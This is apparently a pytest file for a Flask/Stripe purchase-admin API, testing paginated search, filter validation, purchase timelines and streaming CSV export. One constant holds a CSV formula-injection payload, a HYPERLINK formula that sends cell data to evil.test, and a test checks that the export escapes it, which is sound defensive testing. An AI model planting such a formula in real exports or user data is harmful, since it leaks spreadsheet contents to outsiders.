"""Finding purchases over HTTP, reading one's story, and taking all home as CSV."""

from __future__ import annotations

import csv
import datetime as dt
import io
import tracemalloc
import uuid
from collections.abc import Iterator
from typing import Any

import sqlalchemy as sa

from flask_stripe_credits.purchase_search import COLUMNS
from flask_stripe_credits.sandbox import Sandbox

from ..hosts import PREFIX, Host
from .conftest import Operator, sold_to

NOW = dt.datetime(2026, 3, 1, tzinfo=dt.UTC)


def pages(operator: Operator, **query: Any) -> Iterator[list[dict[str, Any]]]:
    """Follow the links from page to page."""
    answer = operator.ask("GET", "/purchases", query_string=query)
    while True:
        assert answer.status_code == 200, answer.text
        yield answer.json  # type: ignore[misc]
        link = answer.headers.get("Link")
        if link is None:
            return
        address, rel = link.split("; ")
        assert rel == 'rel="next"'
        answer = operator.shop.client.get(address.strip("<>"))


def test_purchases_come_newest_first_page_by_page(operator: Operator) -> None:
    at = [NOW + dt.timedelta(hours=number // 2) for number in range(7)]
    ids = [str(operator.shop.add_purchase(created_at=moment, user_id="bob")["id"]) for moment in at]
    operator.shop.add_purchase(created_at=NOW, user_id="carol")
    found = list(pages(operator, user_id="bob", limit=3, since="2026-03-01T00:00:00.000001+00:00"))
    assert [len(page) for page in found] == [3, 2]
    found = list(pages(operator, user_id="bob", limit=3))
    assert [len(page) for page in found] == [3, 3, 1]
    rows = [row for page in found for row in page]
    assert {row["id"] for row in rows} == set(ids)
    created = [row["created_at"] for row in rows]
    assert created == sorted(created, reverse=True)
    assert set(rows[0]) == set(COLUMNS)


def test_every_filter_filters(operator: Operator, stripe: Sandbox) -> None:
    paid = sold_to(operator.shop, stripe, "alice")
    other = operator.shop.add_purchase(user_id="bob", package_code="pro", created_at=NOW)

    def found(**query: Any) -> set[uuid.UUID]:
        return {uuid.UUID(row["id"]) for row in operator.get("/purchases", **query)}

    assert found() == {paid["id"], other["id"]}
    for query in (
        {"status": "completed"},
        {"user_id": "alice"},
        {"package_code": "starter"},
        {"since": "2026-03-02"},
        {"text": paid["stripe_payment_intent_id"]},
        {"text": "lic"},
        {"status": "completed", "user_id": "alice", "text": "Starter"},
    ):
        assert found(**query) == {paid["id"]}, query
    assert found(until="2026-03-02") == {other["id"]}
    assert found(until="2026-03-01T01:00:00+01:00") == set()
    assert found(user_id="ALICE") == set()


WRONG_FILTERS: list[tuple[dict[str, Any], str]] = [
    ({"status": "paid"}, "status"),
    ({"since": "yesterday"}, "since"),
    ({"since": "0001-01-01T00:00:00+14:00"}, "since"),
    ({"since": "2026-02-01", "until": "2026-01-01"}, "until"),
    ({"text": "a\0b"}, "text"),
    ({"user_id": ""}, "user_id"),
    ({"user_id": "a" * 256}, "user_id"),
    ({"limit": "0"}, "limit"),
    ({"limit": "201"}, "limit"),
    ({"after": "1"}, "after"),
    ({"status": ["completed", "failed"]}, "status"),
    ({"userid": "alice"}, "userid"),
]


def test_a_filter_that_cant_be_is_named(small_operator: Operator) -> None:
    for query, field in WRONG_FILTERS:
        for path in ("/purchases", "/purchases.csv"):
            if path.endswith("csv") and field in ("limit", "after"):
                continue
            answer = small_operator.ask("GET", path, query_string=query)
            assert answer.status_code == 422, answer.text
            assert list((answer.json or {})["errors"]) == [field]


def test_one_purchase_tells_its_whole_story(operator: Operator, stripe: Sandbox) -> None:
    purchase = sold_to(operator.shop, stripe, "alice")
    operator.post(f"/purchases/{purchase['id']}/refund", amount=400)
    shown = operator.get(f"/purchases/{purchase['id']}")
    assert shown["amount_paid"] == 1000
    assert (shown["amount_refunded"], shown["credits_revoked"]) == (400, 400)
    kinds = [entry["kind"] for entry in shown["timeline"]]
    assert kinds[0] == "created"
    assert {"session", "grant", "delivery", "request", "refund"} <= set(kinds)
    (request,) = [entry for entry in shown["timeline"] if entry["kind"] == "request"]
    assert request["actor"] == "olivia"
    assert "$4.00" in shown["meaning"]
    assert shown["next"]


# Text that a buyer or a package's name may bring.
EVIL = '=HYPERLINK("https://evil.test/?leak="&A1,"click")'


def read_csv(operator: Operator, **query: Any) -> list[dict[str, str]]:
    answer = operator.ask("GET", "/purchases.csv", query_string=query)
    assert answer.status_code == 200, answer.text
    assert answer.content_type == "text/csv; charset=utf-8; header=present"
    assert answer.headers["Content-Disposition"] == 'attachment; filename="purchases.csv"'
    return list(csv.DictReader(io.StringIO(answer.text, newline="")))


def test_csv_has_what_the_list_has(operator: Operator, stripe: Sandbox) -> None:
    paid = sold_to(operator.shop, stripe, "alice")
    operator.post(f"/purchases/{paid['id']}/refund", amount=250)
    operator.shop.add_purchase(user_id=EVIL, package_name='a "b", c\nd', created_at=NOW)
    yen = {"currency": "jpy", "unit_amount": 500, "amount_paid": 500, "paid_at": NOW}
    operator.shop.add_purchase(user_id="-1", created_at=NOW - dt.timedelta(days=1), **yen)
    first, second, third = read_csv(operator)
    assert first["id"] == str(paid["id"])
    assert (first["price"], first["paid"], first["refunded"]) == ("10.00", "10.00", "2.50")
    assert (first["credits"], first["credits_revoked"], first["status"]) == (
        "1000",
        "250",
        "completed",
    )
    assert first["stripe_payment_intent_id"] == paid["stripe_payment_intent_id"]
    assert second["user_id"] == f"'{EVIL}"
    assert (second["package_name"], second["paid"]) == ('a "b", c\nd', "")
    assert second["created_at"] == "2026-03-01T00:00:00Z"
    assert (third["user_id"], third["paid"], third["currency"]) == ("'-1", "500", "jpy")
    assert [row["id"] for row in read_csv(operator, status="completed")] == [first["id"]]
    assert read_csv(operator, status="failed") == []


def add_many(shop: Host, count: int) -> None:
    table = shop.credits.Purchase.__table__
    pattern = shop.add_purchase(user_id="crowd")
    rows = [
        pattern
        | {
            "id": uuid.uuid4(),
            "stripe_checkout_session_id": None,
            "created_at": NOW + dt.timedelta(seconds=number // 3),
        }
        for number in range(count)
    ]
    with shop.app.app_context(), shop.db.engine.begin() as connection:
        connection.execute(sa.insert(table), rows)


def test_csv_goes_on_over_pages_and_keeps_none_of_them(operator: Operator) -> None:
    add_many(operator.shop, 5_000)
    everything = {str(row["id"]) for row in operator.shop.purchases()}
    answer = operator.ask("GET", "/purchases.csv", buffered=False)
    tracemalloc.start()
    chunks = iter(answer.response)
    ids = []
    rest = b""
    for chunk in chunks:
        assert len(chunk) < 200_000
        rest += bytes(chunk)
        *lines, rest = rest.split(b"\r\n")
        ids += [line.split(b",")[0].decode() for line in lines]
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    answer.close()
    assert ids[0] == "id"
    assert len(ids[1:]) == len(everything) == 5_001
    assert set(ids[1:]) == everything
    # Two pages of a thousand rows, and the ids that this test keeps.
    assert peak < 8_000_000


def test_csv_holds_nothing_open_while_it_is_sent(operator: Operator) -> None:
    """A client that reads slowly keeps nobody from buying."""
    add_many(operator.shop, 2_500)
    answer = operator.ask("GET", "/purchases.csv", buffered=False)
    chunks = iter(answer.response)
    next(chunks)
    purchase = operator.shop.add_purchase(user_id="alice")
    assert operator.shop.pay(purchase).status_code == 200
    assert operator.shop.ledger("alice") == [1000]
    assert sum(1 for _ in chunks) > 10
    answer.close()


def test_csv_that_cant_be_read_is_a_problem_and_no_file(small_operator: Operator) -> None:
    with small_operator.shop.app.app_context():
        small_operator.shop.db.drop_all()
    answer = small_operator.shop.client.get(f"{PREFIX}/admin/purchases.csv")
    assert answer.status_code == 503
    assert (answer.json or {})["code"] == "tables_out_of_date"
